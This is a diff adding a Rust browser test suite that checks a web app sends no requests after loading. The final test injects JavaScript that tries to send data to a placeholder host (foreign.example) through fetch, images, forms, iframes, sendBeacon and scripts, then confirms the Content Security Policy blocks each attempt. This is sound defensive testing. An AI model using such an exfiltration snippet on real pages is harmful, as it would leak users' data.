@@ -1,0 +1,225 @@
+//! Nothing is asked of anybody once the page has loaded, whatever a reader does: a proxy sees every request that
+//! the browser makes, to whichever host.
+
+use std::time::Duration;
+
+use e2e::seed::{ONE_LEADS, breach, check, day, kept, work};
+use e2e::sheet::{part_texts, text_fields};
+use e2e::texts::{pack, say};
+use e2e::{By, Engine, Page, Proxy, Result, run_through};
+use serde_json::json;
+use trust_check::model::breach::Size;
+use trust_check::model::check::Check;
+use trust_check::model::coded::Coded;
+use trust_check::model::context::Perspective;
+use trust_check::model::worksheet::Part;
+use trust_check::pack::Msg;
+use trust_check::store::backup::{seal_all, write};
+
+/// Where nobody is: names that are kept for examples.
+const FOREIGN: &str = "http://foreign.example/";
+
+/// Whom browsers ask by themselves, with no page open too: their makers. No setting keeps them from all of it. What the
+/// page itself asks for stands in its own list of what it has loaded as well, and none of these ever does.
+const MAKERS: [&str; 8] = [
+    "google.com",
+    "googleapis.com",
+    "gvt1.com",
+    "gstatic.com",
+    "mozilla.com",
+    "mozilla.net",
+    "mozilla.org",
+    "firefox.com",
+];
+
+/// Whether a browser asks its maker for something, in secret from the page.
+fn is_of_browser(line: &str) -> bool {
+    let host = line
+        .strip_prefix("CONNECT ")
+        .and_then(|line| line.strip_suffix(":443"));
+    host.is_some_and(|host| MAKERS.iter().any(|maker| host.ends_with(maker)))
+}
+
+/// What was asked for through the proxy; whether and when a browser asks for the icon is its own affair.
+fn asked(proxy: &Proxy) -> Vec<String> {
+    let mut asked = proxy.asked();
+    asked.retain(|line| !line.ends_with("/icon.svg") && !is_of_browser(line));
+    asked
+}
+
+/// Gives whatever was begun the time to be asked for.
+async fn settle() {
+    tokio::time::sleep(Duration::from_millis(700)).await;
+}
+
+/// Each test in each engine, with a proxy of its own.
+macro_rules! through_a_proxy {
+    ($($(#[$meta:meta])* async fn $name:ident($page:ident: &Page, $proxy:ident: &Proxy) -> Result $body:block)+) => {$(
+        $(#[$meta])*
+        mod $name {
+            use super::*;
+
+            fn run(engine: Engine) {
+                let proxy = Proxy::start().expect("a port");
+                let $proxy = &proxy;
+                run_through(&proxy, engine, stringify!($name), async |$page: &Page| $body);
+            }
+
+            #[test]
+            fn chromium() {
+                run(Engine::Chromium);
+            }
+
+            #[test]
+            fn firefox() {
+                run(Engine::Firefox);
+            }
+
+            #[test]
+            fn webkit() {
+                run(Engine::Webkit);
+            }
+        }
+    )+};
+}
+
+/// From the opening into the worksheet and through all of it.
+async fn through_the_worksheet(page: &Page) -> Result {
+    page.press_button(Msg::SheetOpen).await?;
+    page.at(&pack().worksheet.intro.title).await?;
+    for part in Part::all() {
+        page.to_part(part).await?;
+        if let Some(field) = text_fields(part, Perspective::Both).first() {
+            page.put(&field.ask, "written in the test").await?;
+        }
+        page.at(&part_texts(part).title).await?;
+        page.back_to_sheet().await?;
+    }
+    page.press_button(Msg::Notes).await?;
+    page.press_button(Msg::NoteAdd).await?;
+    page.wait_to_write().await?;
+    page.back_to_sheet().await?;
+    page.to_part(Part::Change).await?;
+    page.click("button", say(Msg::CommitmentChange)).await?;
+    page.saved_by(async |page: &Page| page.press_button(Msg::ReminderNeutral).await)
+        .await?;
+    page.back_to_sheet().await
+}
+
+/// Files out and in, paper, and where it is kept.
+async fn along(page: &Page, backup: &str) -> Result {
+    page.press_button(Msg::Take).await?;
+    page.saved_by(async |page: &Page| page.press_button(Msg::TakeMarkdown).await)
+        .await?;
+    page.saved_by(async |page: &Page| page.press_button(Msg::BackupSave).await)
+        .await?;
+    page.script("window.print = () => {}", vec![]).await?;
+    page.press_button(Msg::PaperFilled).await?;
+    page.press_button(Msg::Print).await?;
+    page.press_button(Msg::PaperBack).await?;
+    page.give_file("backup.json", backup.as_bytes()).await?;
+    page.press_button(Msg::RestoreMerge).await?;
+    page.wait_for_text(say(Msg::NoticeTakenIn)).await?;
+    page.click("radio", say(Msg::KeepVisit)).await?;
+    page.answer_dialog(Msg::ConfirmVisitYes).await?;
+    page.wait_until("nothing is kept", "return localStorage.length === 0")
+        .await?;
+    page.click("radio", say(Msg::KeepHere)).await?;
+    page.wait_until("it is kept again", "return localStorage.length > 0")
+        .await?;
+    page.press_button(Msg::DeleteAll).await?;
+    page.answer_dialog(Msg::ConfirmDeleteAllYes).await?;
+    page.wait_for_text(say(Msg::NoticeDeleted)).await
+}
+
+through_a_proxy! {
+    /// Loading asks for the page's own files; then a check, the history, every part of the worksheet, notes, files
+    /// out and in, paper, keeping and erasing ask for nothing, neither here nor elsewhere.
+    async fn no_request_after_loading(page: &Page, proxy: &Proxy) -> Result {
+        let written = work(Perspective::Both);
+        page.seed(&e2e::seed::kept_work(&written)).await?;
+        page.seed(&[kept(&check("first", day(0), ONE_LEADS))]).await?;
+        proxy.forget();
+        page.open_app().await?;
+        settle().await;
+        let loading = asked(proxy);
+        let own = page.server().origin();
+        assert!(loading.len() >= 9, "the browser doesn't ask through the proxy: {loading:?}");
+        for line in &loading {
+            assert!(line.starts_with(&format!("GET {own}/")), "{line}");
+        }
+        let loaded = page.loaded().await?;
+        assert!(loaded.iter().all(|address| address.starts_with(&own)), "{loaded:?}");
+        proxy.forget();
+        page.server().forget_requests();
+
+        let plan = Check { breaches: vec![breach(Size::Big)], ..check("plan", day(0), ONE_LEADS) };
+        page.take(&plan, By::Mouse).await?;
+        page.to_history().await?;
+        page.press_button(Msg::Home).await?;
+        through_the_worksheet(page).await?;
+        let backup = write(&seal_all(&[check("other", day(9), ONE_LEADS)], &written), day(9));
+        along(page, &backup).await?;
+        settle().await;
+        assert_eq!(asked(proxy), Vec::<String>::new());
+        assert_eq!(page.asked_for(), Vec::<String>::new());
+        assert_eq!(page.loaded().await?, loaded);
+        Ok(())
+    }
+
+    /// What the test above looks with sees a request to a host that nobody has, from a page without a policy.
+    async fn a_request_is_seen(page: &Page, proxy: &Proxy) -> Result {
+        page.server().drop_policy();
+        page.open("").await?;
+        page.started().await?;
+        proxy.forget();
+        let body = "fetch(arguments[0], { mode: 'no-cors' }).catch(() => {})";
+        page.script(body, vec![json!(FOREIGN)]).await?;
+        let start = std::time::Instant::now();
+        while !proxy.asked().iter().any(|line| line.contains("foreign.example")) {
+            assert!(start.elapsed() < e2e::PATIENCE, "not seen: {:?}", proxy.asked());
+            settle().await;
+        }
+        Ok(())
+    }
+
+    /// The pages' own policy lets no script ask anybody else, nor send a form, nor show a picture that would tell.
+    async fn the_policy_lets_nothing_out(page: &Page, proxy: &Proxy) -> Result {
+        for path in ["", "frame.html"] {
+            page.open(path).await?;
+            page.started().await?;
+            proxy.forget();
+            // From a file of the page's own, as a script that was injected would be.
+            let body = "const done = arguments[1];
+                const refused = [];
+                addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
+                const where = arguments[0];
+                fetch(where).catch(() => {});
+                const picture = new Image();
+                picture.src = where + 'picture.png';
+                const form = document.createElement('form');
+                Object.assign(form, { action: where, method: 'post' });
+                const frame = document.createElement('iframe');
+                frame.src = where;
+                document.body.append(form, frame);
+                // Firefox throws.
+                try { form.submit(); } catch {}
+                navigator.sendBeacon(where, 'told');
+                const link = document.createElement('link');
+                Object.assign(link, { rel: 'stylesheet', href: where + 'style.css' });
+                const script = document.createElement('script');
+                script.src = where + 'script.js';
+                document.head.append(link, script);
+                setTimeout(() => done(refused), 700)";
+            let refused = page.client().execute_async(body, vec![json!(FOREIGN)]).await?;
+            let refused: Vec<String> = serde_json::from_value(refused)?;
+            for directive in ["connect-src", "img-src", "form-action", "frame-src", "style-src-elem", "script-src-elem"] {
+                assert!(refused.iter().any(|one| one == directive), "{path}: {directive} not among {refused:?}");
+            }
+            let asked = proxy.asked();
+            assert!(!asked.iter().any(|line| line.contains("foreign")), "{path}: {asked:?}");
+        }
+        page.server().forget_reports();
+        Ok(())
+    }
+}
